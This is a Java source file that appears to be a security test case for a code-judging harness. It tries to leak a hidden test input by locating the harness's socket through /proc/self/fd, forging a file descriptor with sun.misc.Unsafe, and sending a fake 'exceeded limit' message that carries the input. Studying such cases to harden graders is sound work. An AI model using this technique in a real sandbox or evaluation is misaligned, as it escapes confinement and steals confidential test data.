// tries: a limit message that carries the input of a hidden case out
// outcome: exceeded-limit print
import java.io.File;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;

class Harm {
    static String shout(String word) throws Exception {
        if (word.startsWith("secret")) {
            send(wire(), "{\"m\":\"exceeded\",\"limit\":\"print\",\"message\":\"REACHED " + word + "\"}");
            Thread.sleep(100_000);
        }
        return word.toUpperCase();
    }

    /// The harness's end of the conversation: the socket that was opened last.
    static OutputStream wire() throws Exception {
        int last = 0;
        for (var name : new File("/proc/self/fd").list()) {
            var open = Path.of("/proc/self/fd", name);
            if (Files.exists(open, LinkOption.NOFOLLOW_LINKS) && Files.readSymbolicLink(open).toString().startsWith("socket:")) {
                last = Math.max(last, Integer.parseInt(name));
            }
        }
        return descriptor(last);
    }

    static OutputStream descriptor(int number) throws Exception {
        var field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
        field.setAccessible(true);
        var unsafe = (sun.misc.Unsafe) field.get(null);
        var descriptor = new FileDescriptor();
        unsafe.putInt(descriptor, unsafe.objectFieldOffset(Twin.class.getDeclaredField("fd")), number);
        return new FileOutputStream(descriptor);
    }

    /// Fields in the order of FileDescriptor, to learn where its number lies.
    static final class Twin {
        int fd;
        long handle;
        Object parent;
        Object otherParents;
        boolean closed;
        boolean append;
        Object cleanup;
    }

    static void send(OutputStream out, String json) throws Exception {
        var bytes = json.getBytes();
        out.write(ByteBuffer.allocate(4 + bytes.length).putInt(bytes.length).put(bytes).array());
        out.flush();
    }
}
